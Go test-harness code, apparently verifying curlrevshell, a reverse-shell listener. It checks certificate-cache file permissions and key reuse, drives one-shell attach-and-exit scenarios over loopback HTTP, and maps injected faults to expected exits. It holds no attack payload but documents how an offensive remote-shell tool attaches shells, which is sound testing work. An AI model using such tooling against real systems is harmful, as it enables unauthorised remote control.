	{LocXDG, 4, "022"}, // $S/a/b/c, nothing of it there
	{LocXDG, 1, "000"},
	{LocXDG, 2, "077"},
	{LocXDG, 3, "022"},
	{LocXDGRelative, 1, "022"},
	{LocExplicit, 0, "022"},
	{LocExplicit, 1, "022"},
	{LocExplicit, 2, "077"},
	{LocExplicit, 3, "000"},
}

func enumerateCache() []caseSpec {
	var out []caseSpec
	for _, c := range cacheCases {
		cache := CacheDefault
		if c.loc == LocExplicit {
			cache = CacheFresh
		}
		out = append(out, caseSpec{
			cfg:  Config{TTY: true, Cache: cache, CacheLoc: c.loc, Missing: c.missing, Umask: c.umask},
			acts: []Action{{K: KExit, ID: ExitCacheRestart}},
		})
	}
	return out
}

// cacheLayout is what a case of the family looks like on disk.
type cacheLayout struct {
	chain    []string // directories from $S down to the one the file is expected in
	existing int      // how many of them the harness makes
	env      []string
	flag     string // value of -tls-certificate-cache, or ""
}

// layoutOf works the layout out from the configuration alone.  root is
// absolute.
func layoutOf(cfg *Config, root string) (*cacheLayout, string) {
	in := func(parts ...string) string { return filepath.Join(append([]string{root}, parts...)...) }
	base := []string{"PATH=/usr/local/bin:/usr/bin:/bin", "TERM=xterm", "LANG=C"} // CURLREVSHELL_LOG absent
	l := &cacheLayout{}
	switch cfg.CacheLoc {
	case LocHome:
		// os.UserCacheDir: $HOME/.cache when XDG_CACHE_HOME is not set
		l.chain = []string{"home", ".cache", sstls.CertCacheDir}
		if cfg.Missing > 3 {
			l.chain = append([]string{"users"}, l.chain...)
		}
		l.env = append(base, "HOME="+in(l.chain[:len(l.chain)-2]...))
	case LocXDG:
		l.chain = []string{"xdg", sstls.CertCacheDir}
		if cfg.Missing > 2 {
			l.chain = []string{"a", "b", "c", sstls.CertCacheDir}
		}
		l.env = append(base, "HOME="+in("home"), "XDG_CACHE_HOME="+in(l.chain[:len(l.chain)-1]...))
	case LocXDGRelative:
		// The children run in "/": where the toolchain takes the relative
		// path as it is, it still points into $S ($S/relxdg); where it
		// refuses it the program falls back to $HOME/.<dir>.  The file is
		// found wherever it is made.
		l.chain = []string{"home", "." + sstls.CertCacheDir}
		l.env = append(base, "HOME="+in("home"),
			"XDG_CACHE_HOME="+strings.TrimPrefix(in("relxdg"), "/"))
	case LocExplicit:
		l.chain = []string{"e", "d1", "d2", "d3"}
		l.env = append(base, "HOME="+in("home"), "XDG_CACHE_HOME="+in("xdghome"))
		l.flag = in("e", "d1", "d2", "d3", sstls.CertCacheFile)
	default:
		return nil, "unknown cache place " + cfg.CacheLoc
	}
	if cfg.Missing < 0 || cfg.Missing > len(l.chain) {
		return nil, "more missing directory levels than the path has"
	}
	if cfg.CacheLoc == LocXDGRelative && cfg.Missing != 1 {
		return nil, "the relative XDG_CACHE_HOME case has exactly one missing level"
	}
	l.existing = len(l.chain) - cfg.Missing
	return l, ""
}

func parseUmask(s string) (int, bool) {
	if len(s) != 3 {
		return 0, false
	}
	u, err := strconv.ParseUint(s, 8, 32)
	if err != nil || u > 0o777 {
		return 0, false
	}
	return int(u), true
}

// validateCache says why a case of the family cannot be executed, or "".
func (cs *caseSpec) validateCache() string {
	isFam := isCacheExit(cs.exitHow()) && len(cs.acts) > 0
	if cs.cfg.CacheLoc == "" && cs.cfg.Missing == 0 && cs.cfg.Umask == "" && !isFam {
		return ""
	}
	if !isFam || cs.cfg.CacheLoc == "" {
		return "certificate-cache place and the restart scenario belong together"
	}
	if !cs.cfg.TTY || cs.cfg.Info != InfoNone || len(cs.faults()) > 0 {
		return "the certificate-cache family has a terminal, no informational flag and no faults"
	}
	if _, ok := parseUmask(cs.cfg.Umask); !ok {
		return "umask is not three octal digits"
	}
	if _, why := layoutOf(&cs.cfg, "/x"); why != "" {
		return why
	}
	return ""
}

// ---- looking at the tree ----------------------------------------------------

type treeEntry struct {
	mode  os.FileMode
	ino   uint64
	mtime time.Time
	data  []byte // regular files only
}

// treeOf walks root: relative path -> what is there.
func treeOf(root string) (map[string]treeEntry, error) {
	out := map[string]treeEntry{}
	err := filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(root, p)
		if err != nil {
			return err
		}
		if rel == "." {
			return nil
		}
		e := treeEntry{mode: fi.Mode(), mtime: fi.ModTime()}
		if st, ok := fi.Sys().(*syscall.Stat_t); ok {
			e.ino = st.Ino
		}
		if fi.Mode().IsRegular() {
			if e.data, err = os.ReadFile(p); err != nil {
				return err
			}
		}
		out[rel] = e
		return nil
	})
	return out, err
}

func sortedKeys(m map[string]treeEntry) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// treeVerdict is what judgeTree found.
type treeVerdict struct {
	keyFiles []string // new files holding a private key
	created  []string // new directories on the way to them
	bad      [][3]string
	trace    []string
}

// judgeTree compares the tree with the one before the first start: every new
// file holding a private key and every new directory on the way to it is
// accessible to the owner only; what was there before is as it was.
func judgeTree(pre, now map[string]treeEntry) *treeVerdict {
	v := &treeVerdict{}
	add := func(inv, what, format string, a ...any) {
		v.bad = append(v.bad, [3]string{inv, what, fmt.Sprintf(format, a...)})
	}
	isCreated := map[string]bool{}
	for _, p := range sortedKeys(now) {
		e := now[p]
		if _, was := pre[p]; was || e.mode.IsDir() || !bytes.Contains(e.data, []byte(pemKeyMark)) {
			continue
		}
		v.keyFiles = append(v.keyFiles, p)
		v.trace = append(v.trace, fmt.Sprintf("  file with the private key: $S/%s mode %04o", p, e.mode.Perm()))
		if !e.mode.IsRegular() {
			add(invOwnerOnly, "cache file is not a regular file", "$S/%s: mode %v", p, e.mode)
		} else if e.mode.Perm()&0o077 != 0 {
			add(invOwnerOnly, "cache file accessible to group or others",
				"the file holding the private key, $S/%s, has mode %04o", p, e.mode.Perm())
		}
		for d := filepath.Dir(p); d != "."; d = filepath.Dir(d) {
			if _, was := pre[d]; !was {
				isCreated[d] = true
			}
		}
	}
	for _, d := range sortedKeys(now) {
		if !isCreated[d] {
			continue
		}
		v.created = append(v.created, d)
		m := now[d].mode.Perm()
		v.trace = append(v.trace, fmt.Sprintf("  directory made for it: $S/%s mode %04o", d, m))
		if m&0o077 != 0 {
			add(invOwnerOnly, "created cache directory accessible to group or others",
				"a directory made on the way to the cache file, $S/%s, has mode %04o", d, m)
		}
	}
	changed := 0
	for _, p := range sortedKeys(pre) {
		e, ok := now[p]
		if !pre[p].mode.IsDir() {
			continue
		}
		if !ok || e.mode != pre[p].mode {
			// (counted, not judged: the statement speaks of the directories
			// created for the file)
			changed++
			_ = e
		}
	}
	if changed == 0 {
		v.trace = append(v.trace, "  directories that were there before: as they were")
	} else {
		v.trace = append(v.trace, fmt.Sprintf("  directories that were there before: %d CHANGED", changed))
	}
	return v
}

// servedKey completes a TLS handshake with the program and returns the hash
// of the public key it presents.
func servedKey(addr string) ([sha256.Size]byte, error) {
	var none [sha256.Size]byte
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", addr,
		&tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return none, err
	}
	defer c.Close()
	pcs := c.ConnectionState().PeerCertificates
	if len(pcs) == 0 {
		return none, fmt.Errorf("no certificate presented")
	}
	return sha256.Sum256(pcs[0].RawSubjectPublicKeyInfo), nil
}

// executeCache runs a case of the CACHE family.
func executeCache(ev *environment, cs *caseSpec, o *simkit.Outcome) {
	label := cacheLabel(cs.cfg.CacheLoc)
	o.NonTrivial = true
	umask, _ := parseUmask(cs.cfg.Umask)
	o.Trace = append(o.Trace, fmt.Sprintf("expect: %s; %d directory levels missing, umask %s", label, cs.cfg.Missing, cs.cfg.Umask))

	root := filepath.Join(ev.scratch, fmt.Sprintf("c%d_%d", os.Getpid(), caseSeq.Add(1)))
	defer os.RemoveAll(root)
	lay, why := layoutOf(&cs.cfg, root)
	if why != "" {
		o.HarnessErr = why
		return
	}
	mk := func(p string, mode os.FileMode) bool {
		if err := os.MkdirAll(p, 0o755); err != nil {
			o.HarnessErr = err.Error()
			return false
		}
		if err := os.Chmod(p, mode); err != nil { // whatever the worker's umask is
			o.HarnessErr = err.Error()
			return false
		}
		return true
	}
	if !mk(root, 0o755) {
		return
	}
	// $HOME exists where it is not itself the place under test
	if cs.cfg.CacheLoc == LocXDG || cs.cfg.CacheLoc == LocExplicit {
		if !mk(filepath.Join(root, "home"), 0o755) {
			return
		}
	}
	var have []string
	for i := 0; i < lay.existing; i++ {
		mode := os.FileMode(0o755)
		if i == len(lay.chain)-1 && cs.cfg.CacheLoc != LocExplicit {
			mode = 0o700 // the program's own directory, left by an earlier run
		}
		d := filepath.Join(lay.chain[:i+1]...)
		if !mk(filepath.Join(root, d), mode) {
			return
		}
		have = append(have, fmt.Sprintf("$S/%s %04o", d, mode))
	}
	o.Trace = append(o.Trace, fmt.Sprintf("there already: [%s]", strings.Join(have, ", ")))
	o.Faults["cache_place_"+cs.cfg.CacheLoc]++
	o.Faults["umask_"+cs.cfg.Umask]++
	if cs.cfg.Missing > 0 {
		o.Faults["cache_dirs_missing"] += int64(cs.cfg.Missing)
	}
	pre, err := treeOf(root)
	if err != nil {
		o.HarnessErr = err.Error()
		return
	}

	argv := []string{"-listen-address", "127.0.0.1:0"}
	if lay.flag != "" {
		argv = append(argv, "-tls-certificate-cache", lay.flag)
	}
	canon := func(s string) string {
		s = strings.ReplaceAll(s, root, "$S")
		return strings.ReplaceAll(s, strings.TrimPrefix(root, "/"), "$S-without-the-leading-slash")
	}
	var envShown []string
	for _, kv := range lay.env {
		if strings.HasPrefix(kv, "HOME=") || strings.HasPrefix(kv, "XDG_CACHE_HOME=") {
			envShown = append(envShown, canon(kv))
		}
	}
	shownArgv := strings.Join(envShown, " ") + " curlrevshell " + canon(strings.Join(argv, " "))
	o.Trace = append(o.Trace, "argv: "+shownArgv)

	lastOut := ""
	found := func(inv, what, detail string, run int) {
		for _, f := range o.Violations {
			if f.Invariant == inv && f.Signature == label+": "+what {
				return // said once (the first directory, the first moment)
			}
		}
		o.Violations = append(o.Violations, simkit.Found{
			Property: PropertyCache, Invariant: inv, Signature: label + ": " + what,
			Message: fmt.Sprintf("%s (process %d of 2; %d directory levels missing before the first, umask %s)\n  %s\n  (binary built with %s)\n  terminal output:\n%s",
				detail, run, cs.cfg.Missing, cs.cfg.Umask, shownArgv, ev.goVersion, lastOut),
		})
	}

	var firstKey [sha256.Size]byte
	var cacheRel string
	var cacheWas treeEntry
	for run := 1; run <= 2; run++ {
		old := syscall.Umask(umask)
		p, err := startProc(true, ev.bin, argv, lay.env, cs.cfg.Termios)
		syscall.Umask(old)
		if err != nil {
			o.HarnessErr = err.Error()
			return
		}
		o.Steps++
		harness := func(format string, a ...any) {
			p.kill()
			out, _, _ := p.finish()
			o.HarnessErr = fmt.Sprintf(format, a...) + "\n" + shownArgv + "\noutput:\n" + clipTail(canon(string(out)), 3000)
		}
		switch p.waitFor(hasStarted, capHarness) {
		case wTimeout:
			harness("process %d neither exited nor finished start-up within %s", run, capHarness)
			return
		case wExited:
			out, _, _ := p.finish()
			code, sig := p.status()
			lastOut = clipTail(canon(string(out)), 1500)
			o.Trace = append(o.Trace, fmt.Sprintf("process %d: exited before finishing start-up (status %d signal %d)", run, code, int(sig)))
			if run == 1 {
				// nothing is damaged, every directory can be made
				found(invRegenerate, "start with a missing cache failed",
					fmt.Sprintf("no cache file exists and all its directories can be made, yet the program exited (status %d) before finishing start-up", code), run)
			} else {
				// "every run that starts": a run that refuses is not judged
				o.Probes["cache_second_run_did_not_start"]++
			}
			return
		}
		o.Trace = append(o.Trace, fmt.Sprintf("process %d: start-up finished", run))
		lastOut = clipTail(canon(string(p.output())), 1500)
		m := loopbackAddr.Find(p.output())
		if m == nil {
			harness("no listen address in the start-up output")
			return
		}
		key, err := servedKey(string(m))
		if err != nil {
			select {
			case <-p.exited:
			default:
				harness("TLS handshake with process %d: %v", run, err)
				return
			}
			harness("process %d went away during the TLS handshake (%v)", run, err)
			return
		}
		now, err := treeOf(root)
		if err != nil {
			harness("%s", err.Error())
			return
		}
		v := judgeTree(pre, now)
		o.Trace = append(o.Trace, fmt.Sprintf("process %d: tree after start-up:", run))
		o.Trace = append(o.Trace, v.trace...)
		for _, b := range v.bad {
			found(b[0], b[1], b[2], run)
		}
		if len(v.keyFiles) > 0 && len(v.bad) == 0 {
			o.Probes["cache_file_and_dirs_owner_only"]++
			if n := len(v.created); run == 1 && n > 0 {
				o.Probes["cache_dirs_created"] += int64(n)
				o.Probes[fmt.Sprintf("cache_dirs_created_umask_%s", cs.cfg.Umask)]++
				if cs.cfg.CacheLoc != LocExplicit {
					o.Probes["cache_default_place_dirs_created"]++
					if n >= 2 {
						o.Probes["cache_default_place_several_dirs_created"]++
					}
				}
			}
		}
		if run == 1 {
			firstKey = key
			switch len(v.keyFiles) {
			case 1:
				cacheRel = v.keyFiles[0]
				cacheWas = now[cacheRel]
				if cs.cfg.CacheLoc != LocExplicit {
					o.Probes["cache_written_at_default_place"]++
				}
			case 0:
				o.Trace = append(o.Trace, "  no new file with a private key below $S")
				o.Probes["cache_file_not_located"]++
			default:
				o.Probes["cache_several_key_files"]++
			}
		} else {
			same := key == firstKey
			o.Trace = append(o.Trace, fmt.Sprintf("process 2: same key served as by process 1: %v", same))
			if !same {
				found(invStable, "restart served a different key",
					"the second process, started the same way as the one that created the cache, presents another public key in its TLS handshake", run)
			} else {
				o.Probes["cache_restart_same_key"]++
			}
			if cacheRel != "" {
				e, ok := now[cacheRel]
				untouched := ok && e.ino == cacheWas.ino && e.mtime.Equal(cacheWas.mtime) && bytes.Equal(e.data, cacheWas.data)
				o.Trace = append(o.Trace, fmt.Sprintf("process 2: cache file untouched (bytes, inode, mtime): %v", untouched))
				if !untouched {
					found(invRewritten, "restart changed the existing cache file",
						fmt.Sprintf("$S/%s after the second start: present=%v same inode=%v same mtime=%v same bytes=%v same mode=%v",
							cacheRel, ok, e.ino == cacheWas.ino, e.mtime.Equal(cacheWas.mtime), bytes.Equal(e.data, cacheWas.data), e.mode == cacheWas.mode), run)
				} else {
					o.Probes["cache_restart_file_untouched"]++
				}
			}
		}
		// end it normally
		if err := p.send([]byte{0x04}); err != nil {
			harness("typing Ctrl+D: %v", err)
			return
		}
		if p.waitFor(nil, capSelf) != wExited {
			harness("process %d did not leave after Ctrl+D", run)
			return
		}
		out, _, err := p.finish()
		if err != nil {
			o.HarnessErr = err.Error()
			return
		}
		lastOut = clipTail(canon(string(out)), 1500)
		code, sig := p.status()
		o.Trace = append(o.Trace, fmt.Sprintf("process %d: Ctrl+D: exit status %d signal %d", run, code, int(sig)))
		if len(o.Violations) > 0 {
			return
		}
		// what it left behind
		after, err := treeOf(root)
		if err != nil {
			o.HarnessErr = err.Error()
			return
		}
		va := judgeTree(pre, after)
		if strings.Join(va.trace, "\n") != strings.Join(v.trace, "\n") {
			o.Trace = append(o.Trace, fmt.Sprintf("process %d: tree after its exit:", run))
			o.Trace = append(o.Trace, va.trace...)
		}
		for _, b := range va.bad {
			found(b[0], b[1], b[2], run)
		}
		if cacheRel != "" {
			e, ok := after[cacheRel]
			if !ok || e.ino != cacheWas.ino || !e.mtime.Equal(cacheWas.mtime) || !bytes.Equal(e.data, cacheWas.data) {
				found(invRewritten, "cache file changed after start-up had finished",
					fmt.Sprintf("$S/%s differs after the exit of the process from what it was when start-up had finished (present=%v)", cacheRel, ok), run)
			}
		}
		if len(o.Violations) > 0 {
			return
		}
	}
}
