package procsim

import (
	"bytes"
	"errors"
	"io"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// The -one-shell family of normal-exit scenarios (property C12, and part of
// the C20 enumeration).  In each of them a shell becomes fully attached
// (both directions proven with the harness's own tokens), a new connect must
// then be refused, the shell ends (both handlers seen to return, through
// HTTP), and the program must leave by itself with status 0 once the
// operator finishes a line.
const (
	ExitOneShell              = "one_shell"                // /i/x + /o/x
	ExitOneShellBidir         = "one_shell_bidir"          // one POST /io
	ExitOneShellAfterRefused  = "one_shell_after_refused"  // half-attached and wrong-ID attempts first
	ExitOneShellStraggler     = "one_shell_straggler"      // an earlier connection sends its request after the shell has ended
	ExitOneShellIdleStraggler = "one_shell_idle_straggler" // an earlier connection never sends anything
)

var oneShellFamily = []string{ExitOneShell, ExitOneShellBidir, ExitOneShellAfterRefused,
	ExitOneShellStraggler, ExitOneShellIdleStraggler}

func isOneShell(how string) bool {
	for _, h := range oneShellFamily {
		if h == how {
			return true
		}
	}
	return false
}

func oneShellLabel(how string) string {
	l := "normal exit on completion of -one-shell"
	switch how {
	case ExitOneShellBidir:
		l += " (bidirectional shell)"
	case ExitOneShellAfterRefused:
		l += " (after half-attached and refused attempts)"
	case ExitOneShellStraggler:
		l += " (an earlier connection sends a late request)"
	case ExitOneShellIdleStraggler:
		l += " (an earlier connection stays silent)"
	}
	return l
}

// capRefuse is how long new connects may still get through after the shell
// is fully attached.
const capRefuse = 10 * time.Second

// famObs is what a one-shell scenario observed besides the exit itself.
type famObs struct {
	probed            bool // the shell got fully attached and a connect was tried
	refused           bool // ... and refused
	stragglerAttached bool // the late request became a second shell
	closedEarly       bool // a connect was refused before any shell was fully attached
	endedEarly        bool // the program went away before any shell was fully attached
	trace             []string
}

func isRefused(err error) bool { return errors.Is(err, syscall.ECONNREFUSED) }

// turnedAway: the connect was refused, or a connection that still made it
// into the backlog was dropped before the TLS handshake was through (what a
// listener that is being closed does).  A time-out is not among them.
func turnedAway(err error) bool {
	return isRefused(err) || errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EPIPE) ||
		errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF)
}

// oneShellRun drives one scenario.
type oneShellRun struct {
	p      *proc
	addr   string
	poke   chan struct{}
	obs    *famObs
	opened []*stream
}

func (r *oneShellRun) dial() (*stream, error) {
	s, err := dialStream(r.addr, r.poke)
	if err == nil {
		r.opened = append(r.opened, s)
	} else if turnedAway(err) && !r.obs.probed {
		// no shell is fully attached yet: the listener has to be open.
		// That is the program's doing, not the harness's trouble.
		r.obs.closedEarly = true
	}
	return s, err
}

func (r *oneShellRun) closeAll() {
	for _, s := range r.opened {
		s.close()
	}
}

func (r *oneShellRun) ptyHas(tok string) bool { return bytes.Contains(r.p.output(), []byte(tok)) }

// until waits, event-driven, for cond; exited reports the child went away
// first, timeout that limit passed.
func (r *oneShellRun) until(limit time.Duration, cond func() bool) (ok, exited bool) {
	deadline := time.NewTimer(limit)
	defer deadline.Stop()
	beat := time.NewTicker(time.Second)
	defer beat.Stop()
	for {
		if cond() {
			return true, false
		}
		select {
		case <-r.p.exited:
			return cond(), true
		case <-r.p.notify:
		case <-r.poke:
		case <-beat.C:
			simkit.Heartbeat.Add(1)
		case <-deadline.C:
			return cond(), false
		}
	}
}

// attachUni attaches a shell with ID id over /i and /o.  A side the program
// turns away (the previous attempt may still be on its way out) is tried
// again on a fresh connection.
func (r *oneShellRun) attachUni(id string) (in, out *stream, herr string, exited bool) {
	if err := r.p.send([]byte(inToken + "\r")); err != nil {
		return nil, nil, "typing a line: " + err.Error(), false
	}
	deadline := time.Now().Add(capHarness)
	for time.Now().Before(deadline) {
		var err error
		if in == nil {
			if in, err = r.dial(); err == nil {
				err = in.write(reqIn(r.addr, id))
			}
			if err != nil {
				return nil, nil, "connecting the input side: " + err.Error(), false
			}
		}
		if out == nil {
			if out, err = r.dial(); err == nil {
				err = out.write(reqOut(r.addr, id, outToken))
			}
			if err != nil {
				return nil, nil, "connecting the output side: " + err.Error(), false
			}
		}
		inBack := func() bool { g, eof := in.snapshot(); return !in.has(inToken) && bodyDone(g, eof) }
		// (an output side that is turned away is answered only when its
		// body ends, so this sees dropped connections only; the scenarios
		// make sure the way is free before the shell comes)
		outBack := func() bool { g, eof := out.snapshot(); return len(g) > 0 || eof }
		attached := func() bool { return in.has(inToken) && r.ptyHas(outToken) }
		settled, exited := r.until(300*time.Millisecond, func() bool { return attached() || inBack() || outBack() })
		if exited {
			return in, out, "", true
		}
		if attached() {
			return in, out, "", false
		}
		if !settled {
			// the typed line may have gone to an input side on its way
			// out: type another
			simkit.Heartbeat.Add(1)
			if !in.has(inToken) {
				_ = r.p.send([]byte(inToken + "\r"))
			}
			continue
		}
		if inBack() {
			in.close()
			in = nil
		}
		if out != nil && outBack() {
			out.close()
			out = nil
		}
		time.Sleep(10 * time.Millisecond)
	}
	return nil, nil, "the shell never became fully attached", false
}

// run plays the scenario up to the point where only Enter is missing.
func (r *oneShellRun) run(how string) (herr string, exited bool) {
	note := func(s string) { r.obs.trace = append(r.obs.trace, s) }
	var strag *stream
	var err error
	if how == ExitOneShellStraggler || how == ExitOneShellIdleStraggler {
		// a connection made while the listener is still open: TCP and TLS
		// complete, no request yet
		if strag, err = r.dial(); err != nil {
			return "connecting the straggler: " + err.Error(), false
		}
		note("straggler: connected, TLS handshake done, silent")
	}
	if how == ExitOneShellAfterRefused {
		// an input side that comes ...
		y, err := r.dial()
		if err == nil {
			err = y.write(reqIn(r.addr, "y"))
		}
		if err == nil {
			err = r.p.send([]byte(halfToken + "\r"))
		}
		if err != nil {
			return "half-attached attempt: " + err.Error(), false
		}
		ok, exited := r.until(capHarness, func() bool { return y.has(halfToken) })
		if exited {
			return "", true
		}
		if !ok {
			return "the lone input side never got its line", false
		}
		// ... an output side with another ID, which is turned away ...
		z, err := r.dial()
		if err == nil {
			// (a whole request: the server answers only once the body is in)
			err = z.write(reqOut(r.addr, "z", wrongToken) + endBody)
		}
		if err != nil {
			return "wrong-ID attempt: " + err.Error(), false
		}
		ok, exited = r.until(capHarness, func() bool { g, eof := z.snapshot(); return headerDone(g) || eof })
		if exited {
			return "", true
		}
		if !ok {
			return "the wrong-ID output side was neither answered nor dropped", false
		}
		z.close()
		// ... and goes: it says goodbye and waits for the server to finish
		// the response, which it does after the handler has let go
		if err := y.conn.CloseWrite(); err != nil {
			return "half-closing the lone input side: " + err.Error(), false
		}
		ok, exited = r.until(capHarness, func() bool { return bodyDone(y.snapshot()) })
		if exited {
			return "", true
		}
		if !ok {
			return "the lone input side's request did not finish after the client said goodbye", false
		}
		y.close()
		note("half-attached /i/y served, wrong-ID /o/z turned away, both gone")
	}

	// the shell
	var in, out, io *stream
	if how == ExitOneShellBidir {
		if io, err = r.dial(); err == nil {
			err = io.write(reqInOut(r.addr, outToken))
		}
		if err == nil {
			err = r.p.send([]byte(inToken + "\r"))
		}
		if err != nil {
			return "connecting the bidirectional shell: " + err.Error(), false
		}
		ok, exited := r.until(capHarness, func() bool { return io.has(inToken) && r.ptyHas(outToken) })
		if exited {
			return "", true
		}
		if !ok {
			return "the bidirectional shell never became fully attached", false
		}
	} else {
		var herr string
		var exited bool
		if in, out, herr, exited = r.attachUni("x"); herr != "" || exited {
			return herr, exited
		}
	}
	note("shell fully attached (its output on the terminal, the typed line on its input)")

	// the listening socket must be gone now
	r.obs.probed = true
	r.obs.refused = refusedConnect(r.addr, capRefuse)
	if r.obs.refused {
		note("new connect: refused")
	} else {
		note("new connect: STILL ACCEPTED")
	}

	// the shell ends: its output is finished, both handlers return
	var ended func() bool
	if io != nil {
		err = io.write(endBody)
		ended = func() bool { return bodyDone(io.snapshot()) }
	} else {
		err = out.write(endBody)
		ended = func() bool {
			g, eof := out.snapshot()
			return (headerDone(g) || eof) && bodyDone(in.snapshot())
		}
	}
	if err != nil {
		return "ending the shell's output: " + err.Error(), false
	}
	ok, exited := r.until(capHarness, ended)
	if exited {
		return "", true
	}
	if !ok {
		return "the shell's requests did not finish after its output ended", false
	}
	for _, s := range []*stream{in, out, io} {
		s.close()
	}
	note("shell ended (both requests answered), its connections closed")

	if how == ExitOneShellStraggler {
		// only now does the earlier connection speak: a whole new shell
		if err := strag.write(reqInOut(r.addr, lateToken)); err != nil {
			// the program may already have dropped it: allowed
			note("straggler: late request sent")
		} else {
			note("straggler: late request sent")
			ok, exited := r.until(time.Second, func() bool {
				g, eof := strag.snapshot()
				return r.ptyHas(lateToken) || (len(g) > 0 && bodyDone(g, eof))
			})
			if exited {
				return "", true
			}
			r.obs.stragglerAttached = ok && r.ptyHas(lateToken)
			time.Sleep(200 * time.Millisecond)
		}
		strag.close()
		note("straggler: closed")
	}
	return "", false
}

// endOneShell plays scenario how on the started program and waits for it to
// leave.  herr is harness trouble; gone says it exited by itself in time.
func endOneShell(p *proc, how string, obs *famObs) (herr string, gone bool) {
	m := loopbackAddr.Find(p.output())
	if m == nil {
		return "no listen address in the start-up output", false
	}
	r := &oneShellRun{p: p, addr: string(m), poke: make(chan struct{}, 1), obs: obs}
	defer r.closeAll()
	herr, exited := r.run(how)
	if obs.closedEarly {
		// the scenario cannot go on; the verdict is the oracle's.  See
		// whether the program at least leaves when lines are entered.
		obs.trace = append(obs.trace, "connect REFUSED (or dropped) before any shell was fully attached")
		herr, exited = "", false
		r.closeAll() // whatever did get through must not keep the program
		select {
		case <-p.exited:
			exited = true
		default:
		}
	}
	if (exited || herr != "") && !obs.probed {
		select {
		case <-p.exited:
			obs.endedEarly = true
		default:
		}
	}
	if herr != "" {
		select {
		case <-p.exited:
			// it left in the middle of the scenario: judged by what it left
			obs.trace = append(obs.trace, "program exited in the middle of the scenario")
			return "", true
		default:
		}
		return herr, false
	}
	if exited {
		obs.trace = append(obs.trace, "program exited in the middle of the scenario")
		return "", true
	}
	// The line editor notices the end only when a line is finished: press
	// Enter until the process is gone (the operator would).
	deadline := time.Now().Add(capSelf)
	for time.Now().Before(deadline) {
		simkit.Heartbeat.Add(1)
		_ = p.send([]byte("\r"))
		if p.waitFor(nil, 100*time.Millisecond) == wExited {
			return "", true
		}
	}
	return "", false
}
