package procsim

import (
	"sort"
	"strings"
)

// What a case is expected to do.
const (
	expFail   = "fail"   // an applicable fault is reached: clean failure
	expInfo   = "info"   // the informational flag wins: exit 0
	expNormal = "normal" // the program starts up; the harness ends it
)

// The documented order in which the program looks at things (doc/flags.md
// and the order of rmain): it is used ONLY to decide whether a failure is
// expected at all, never which of several injected faults gets reported.
const (
	stHelp     = 0 // flag parsing: -h prints the usage and exits 0
	stTemplate = 1 // -print-default-template prints and exits 0
	stLog      = 2 // the log file is opened
	stCtrlI    = 3 // -print-ctrl-i prints the payload or fails on its source
	stTTY      = 4 // the controlling terminal is needed
	stServe    = 5 // certificate cache and listen address
	stNever    = 99
)

// stage is where fault id is reached (stNever: never a failure).
func stage(id string, info string) int {
	switch group(id) {
	case "log":
		return stLog
	case "ctrli":
		// a missing Ctrl+I source is a failure only when asked to print it;
		// otherwise it is a warning and the program starts
		if info == InfoCtrlI {
			return stCtrlI
		}
		return stNever
	case "notty":
		return stTTY
	case "addr", "cache":
		return stServe
	}
	return stNever
}

// infoStage is where the informational flag ends the program successfully.
func infoStage(info string) int {
	switch info {
	case InfoHelp:
		return stHelp
	case InfoTemplate:
		return stTemplate
	case InfoCtrlI:
		return stCtrlI
	}
	return stNever - 1
}

type expectation struct {
	kind       string
	applicable []Action // faults reached before a successful informational exit
	label      string   // stable description of the situation, for signatures
}

func expect(cs *caseSpec) expectation {
	var e expectation
	is := infoStage(cs.cfg.Info)
	first := stNever
	for _, f := range cs.faults() {
		if st := stage(f.ID, cs.cfg.Info); st <= is {
			e.applicable = append(e.applicable, f)
			if st < first {
				first = st
			}
		}
	}
	switch {
	case len(e.applicable) > 0:
		e.kind = expFail
		switch first {
		case stLog:
			e.label = "unopenable log file"
		case stCtrlI:
			e.label = "missing Ctrl+I source with -print-ctrl-i"
		case stTTY:
			e.label = "no controlling terminal"
		default:
			gs := map[string]bool{}
			for _, f := range e.applicable {
				gs[group(f.ID)] = true
			}
			var parts []string
			if gs["addr"] {
				parts = append(parts, "unusable listen address")
			}
			if gs["cache"] {
				parts = append(parts, "damaged or unwritable certificate cache")
			}
			e.label = strings.Join(parts, " + ")
		}
	case cs.cfg.Info != InfoNone:
		e.kind = expInfo
		e.label = "informational flag " + cs.cfg.Info
	default:
		e.kind = expNormal
		switch how := cs.exitHow(); {
		case how == ExitCtrlC:
			e.label = "normal exit by Ctrl+C"
		case how == ExitInsertCtrlC:
			e.label = "normal exit by Ctrl+C with a Ctrl+I insert in flight"
		case how == ExitInsertCtrlD:
			e.label = "normal exit by Ctrl+D with a Ctrl+I insert in flight"
		case isOneShell(how):
			e.label = oneShellLabel(how)
		case isLogExit(how):
			e.label = logLabel(how)
		case isCacheExit(how):
			e.label = cacheLabel(cs.cfg.CacheLoc)
		case how == ExitStdinEOF:
			e.label = "exit at the end of the standard input"
		default:
			e.label = "normal exit by Ctrl+D"
		}
	}
	switch cs.cfg.Stdin {
	case StdinDevNull:
		e.label += " (standard input /dev/null)"
	case StdinPipe:
		e.label += " (standard input a pipe)"
	case StdinFile:
		e.label += " (standard input a regular file)"
	}
	return e
}

// crashMarks betray a Go panic or fatal signal; the exit status does not
// (a panic exits 2, as some clean paths do).
var crashMarks = []string{"panic:", "goroutine ", "sigsegv", "runtime error", "[signal "}

func crashMarksIn(lowOut string) []string {
	var found []string
	for _, m := range crashMarks {
		if strings.Contains(lowOut, m) {
			found = append(found, strings.TrimSpace(m))
		}
	}
	return found
}

// causeWords are accepted where a message speaks of the thing rather than of
// its path or address.
func causeWords(id string) []string {
	switch group(id) {
	case "notty":
		return []string{"tty", "terminal"}
	case "cache":
		return []string{"certificate", "cert"}
	case "log":
		return []string{"log"}
	case "addr":
		return []string{"listen", "address"}
	case "ctrli":
		return []string{"ctrl+i", "ctrl-i", "source"}
	}
	return nil
}

// causesNamed lists, canonically, how the output names the applicable
// faults: "<fault>[value]" when the offending path/address string is in it,
// "<fault>[word:<w>]" for the accepted words.
func causesNamed(lowOut string, applicable []Action, tokens map[string]string) []string {
	var out []string
	for _, f := range applicable {
